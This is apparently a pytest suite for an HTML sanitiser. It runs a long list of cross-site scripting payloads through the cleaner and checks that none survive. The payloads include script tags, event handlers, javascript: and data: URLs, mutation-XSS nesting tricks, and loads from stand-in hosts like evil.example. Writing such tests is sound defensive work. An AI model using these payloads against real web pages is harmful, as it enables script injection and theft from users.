"""A bank of known ways to smuggle code through a cleaner; what comes out is parsed anew and judged by what it holds."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from amanat.core import html

ALLOWED = {"p", "br", "b", "i", "strong", "em", "ul", "ol", "li", "a", "blockquote", "code", "h3", "h4"}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.example/x.js></script>",
    "<script\x0d>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x oneonerrorrror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src='https://tracker.example/p.gif'>",
    "<img srcset='https://tracker.example/p.gif 1x'>",
    "<image xlink:href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>x</text></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><annotation-xml encoding='text/html'><img src onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x.html>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>p{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p onclick=alert(1) onmouseover='alert(1)'>x</p>",
    "<p\x0bonclick=alert(1)>x</p>",
    "<b/onfocus=alert(1)/autofocus/tabindex=1>x</b>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='\u00a0javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://x.example/1'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/admin/delete'>x</a>",
    "<a href='https://x.example' target=_blank onclick=alert(1) style=x id=y class=z name=w>x</a>",
    "<a href='https://x.example' rel='opener'>x</a>",
    "<a href='https://x.example' ping='https://tracker.example'>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<title><img src=x onerror=alert(1)></title>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=https://tracker.example/p.gif></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<table background=javascript:alert(1)><tr><td>x</table>",
    "<xss id=x tabindex=1 onactivate=alert(1)></xss>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img onerror=alert(1) src&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<p hx-get='/delete' hx-trigger='load'>x</p>",
    "<p data-hx-on:load='alert(1)'>x</p>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]


class Judge(HTMLParser):
    """Collects everything in the cleaned HTML that should not be there."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.faults.append(tag)
        for name, value in attrs:
            if (tag, name) not in {("a", "href"), ("a", "rel")}:
                self.faults.append(f"{tag}.{name}")
            if name == "href" and not (value or "").lower().startswith(("http://", "https://", "mailto:", "tel:")):
                self.faults.append(str(value))
            if name == "rel" and value != "noopener noreferrer nofollow":
                self.faults.append(str(value))

    def handle_comment(self, data: str) -> None:
        self.faults.append(data)


def faults(cleaned: str) -> list[str]:
    judge = Judge()
    judge.feed(cleaned)
    judge.close()
    return judge.faults


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives(payload: str) -> None:
    for wrapped in (payload, f"<p>before {payload} after</p>", f"<b>{payload}", f"<ul><li>{payload}</ul>"):
        assert faults(html.clean(wrapped)) == []


def test_judge_sees_what_it_should() -> None:
    assert faults("<p onclick=x>y</p><script>z</script><a href='javascript:1'>w</a>") == [
        "p.onclick",
        "script",
        "javascript:1",
    ]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cleaning_twice_changes_nothing(payload: str) -> None:
    once = html.clean(payload)
    assert html.clean(once) == once


def test_scripts_and_styles_go_with_their_text() -> None:
    assert html.clean("a<script>b</script><style>c</style>d") == "ad"


def test_what_a_note_needs_stays() -> None:
    note = "<h3>Visit</h3><p><b>Two</b> <em>rooms</em><br>x</p><ul><li>one</li></ul><blockquote>q</blockquote><code>c</code>"
    assert html.clean(note) == note


@pytest.mark.parametrize(
    "address", ["https://x.example/a?b=1", "http://x.example", "mailto:a@x.example", "tel:+919876543210"]
)
def test_links_stay_and_get_a_rel(address: str) -> None:
    assert html.clean(f'<a href="{address}">x</a>') == f'<a href="{address}" rel="noopener noreferrer nofollow">x</a>'


def test_too_long_is_refused() -> None:
    with pytest.raises(html.TooLong):
        html.clean("x" * (html.MOST_CHARACTERS + 1))


def test_too_many_tags_are_refused_before_they_cost_time() -> None:
    with pytest.raises(html.TooLong):
        html.clean("<div>" * 90_000)


def test_deep_nesting_is_survived() -> None:
    assert faults(html.clean("<b><i>" * 5_000 + "x")) == []


@given(st.text(alphabet="<>/='\"&;: abcdeijlnoprstvx\x00\n!-", max_size=80))
def test_no_text_of_markup_characters_survives(text: str) -> None:
    assert faults(html.clean(text)) == []


@given(st.text(max_size=200))
def test_text_becomes_html_that_shows_the_text(text: str) -> None:
    assert faults(html.text_to_html(text)) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_to_html_shows_payloads_as_text(payload: str) -> None:
    assert faults(html.text_to_html(payload)) == []


def test_text_becomes_paragraphs_lines_and_links() -> None:
    text = "Hello\r\nworld\n\n\nSee https://x.example/a?b=1&c=2. <b>"
    assert html.text_to_html(text) == (
        "<p>Hello<br>world</p>"
        '<p>See <a href="https://x.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">'
        "https://x.example/a?b=1&amp;c=2</a>. &lt;b&gt;</p>"
    )


def test_a_link_ends_before_quote_and_bracket() -> None:
    made = html.text_to_html('(https://x.example/") and javascript:alert(1)')
    assert 'href="https://x.example/"' in made
    assert made.count("<a ") == 1


def test_empty_text_is_empty_html() -> None:
    assert html.text_to_html(" \n\n ") == ""
